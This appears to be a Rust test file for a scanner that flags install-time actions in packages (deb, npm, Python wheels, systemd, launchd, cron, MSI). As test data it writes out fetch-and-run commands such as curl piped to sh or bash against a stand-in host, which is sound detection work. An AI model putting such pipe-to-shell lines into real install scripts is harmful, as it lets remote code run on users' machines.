use khien_model::Untrusted;
use khien_unpack::{Fact, Format};

use super::*;
use crate::traits::{Matchers, installation_script, of_file};

fn observed(path: &str, bytes: &str, facts: &[Fact]) -> Vec<String> {
    let matchers = Matchers::built_in().expect("built in");
    let input = FileInput {
        path,
        format: Format::Script,
        bytes: bytes.as_bytes(),
        images: &[],
        facts,
        runs_at_installation: false,
    };
    let shown = |o: &khien_lineage::Observed| format!("{} {}", o.of.kind, o.of.value);
    let traits = of_file(&input, &matchers).observed;
    traits.iter().map(shown).filter(|s| s.starts_with("installation")).collect()
}

fn check(path: &str, bytes: &str, expected: &[&str]) {
    let found = observed(path, bytes, &[]);
    // The digest of lines is not what these tests are about.
    let cut = |s: &String| match s.strip_prefix("installation.script ") {
        Some(rest) => format!("script {}", rest.rsplit_once(' ').map_or(rest, |(a, _)| a)),
        None => s.trim_start_matches("installation.").to_owned(),
    };
    let found: Vec<_> = found.iter().map(cut).collect();
    assert_eq!(found, expected, "{path}");
}

#[test]
fn maintainer_scripts_are_told_and_more_so_when_they_fetch() {
    check("a.deb!/control.tar.xz!/./postinst", "#!/bin/sh\nldconfig\n", &["action deb:postinst"]);
    let fetches = "#!/bin/sh\ncurl https://inert.test | sh\n";
    let both = ["action deb:postinst", "script deb:postinst eval+network"];
    check("a.deb!/control.tar.xz!/./postinst", fetches, &both);
    check("usr/share/doc/postinst", fetches, &[]);
    check("a.pkg!/Scripts!/preinstall", "#!/bin/sh\n", &["action pkg:preinstall"]);
    check("x.whl!/a.pth", "import os\n", &["action python-path:a.pth"]);
    check("x.whl!/a.pth", "lib/inert\n", &[]);
    check("setup.py", "from setuptools import setup\n", &["action python:setup.py"]);
}

#[test]
fn lifecycle_scripts_of_npm() {
    let manifest = r#"{"scripts": {"postinstall": "node setup.js", "test": "curl x"},
        "dependencies": {"a": "^1.2.3", "b": "github:inert/b", "c": "npm:d@1"}}"#;
    let expected =
        ["action npm:dependency b github:inert/b", "action npm:postinstall node setup.js"];
    check("package/package.json", manifest, &expected);
    let fetches = r#"{"scripts": {"preinstall": "curl https://inert.test/2 | bash"}}"#;
    let expected = [
        "action npm:preinstall curl https://inert.test/0 | bash",
        "script npm:preinstall eval+network",
    ];
    check("package/package.json", fetches, &expected);
    check("package/package.json", "{\"scripts\": 3", &[]);
}

#[test]
fn a_script_that_a_manifest_starts_is_told_afterwards() {
    let matchers = Matchers::built_in().expect("built in");
    let read = |path, format, bytes: &str| {
        let bytes = bytes.as_bytes();
        let (images, facts) = (&[], &[]);
        let input = FileInput { path, format, bytes, images, facts, runs_at_installation: false };
        of_file(&input, &matchers)
    };
    let manifest =
        r#"{"scripts": {"preinstall": "node ./scripts/setup.js --x=http://a.test/b.js"}}"#;
    assert_eq!(read("package/package.json", Format::Json, manifest).starts, ["./scripts/setup.js"]);
    let script =
        read("package/scripts/setup.js", Format::Script, "require('child_process')").script;
    let told = installation_script("npm:started", "setup.js", &script.expect("a script"));
    let kinds: Vec<_> = told.iter().map(|o| o.of.kind).collect();
    assert_eq!(kinds, [TraitKind::InstallAction, TraitKind::InstallScript]);
    assert!(told[1].of.value.as_raw().starts_with("npm:started exec "));
}

#[test]
fn what_a_system_starts_by_itself() {
    let unit = "[Service]\n# ExecStart=/no\nExecStart=-/usr/sbin/inertd -f\n";
    let expected =
        ["action systemd:inert.service", "action systemd:inert.service /usr/sbin/inertd"];
    check("data.tar!/./lib/systemd/system/inert.service", unit, &expected);
    check("doc/inert.service", unit, &[]);
    let plist = "<dict><key>Label</key><string>x</string><key>ProgramArguments</key><array>\n\
        <string>/bin/sh</string><string>-c</string><string>curl -o a http://inert.test</string></array>";
    let expected = [
        "action launchd:test.inert.plist",
        "action launchd:test.inert.plist /bin/sh",
        "script launchd eval+network",
    ];
    check("Library/LaunchAgents/test.inert.plist", plist, &expected);
    let cron = "# m h\n*/5 * * * * root /usr/bin/inert --now\n";
    check("etc/cron.d/inert", cron, &["action cron:inert", "action cron:inert /usr/bin/inert"]);
}

#[test]
fn update_channels_by_place() {
    let yml = "provider: generic\nurl: https://updates.inert.test/x\n";
    let expected = [
        "update-channel electron-updater:provider: generic",
        "update-channel electron-updater:url: https://updates.inert.test/x",
    ];
    check("resources/app-update.yml", yml, &expected);
    let plist = "<key>SUFeedURL</key>\n<string>https://inert.test/feed.xml</string>";
    check(
        "Contents/Info.plist",
        plist,
        &["update-channel sparkle:SUFeedURL https://inert.test/feed.xml"],
    );
}

#[test]
fn installers_actions_come_as_facts() {
    let fact = Fact {
        path: Untrusted::from("a.msi"),
        kind: FactKind::InstallAction,
        offset: None,
        detail: Untrusted::from("CustomAction 34: cmd.exe /c curl http://inert.test"),
    };
    let found = observed("a.msi", "", &[fact]);
    assert_eq!(found[0], "installation.action customaction 0: cmd.exe /c curl http://inert.test");
    assert!(found[1].starts_with("installation.script action network "), "{found:?}");
}
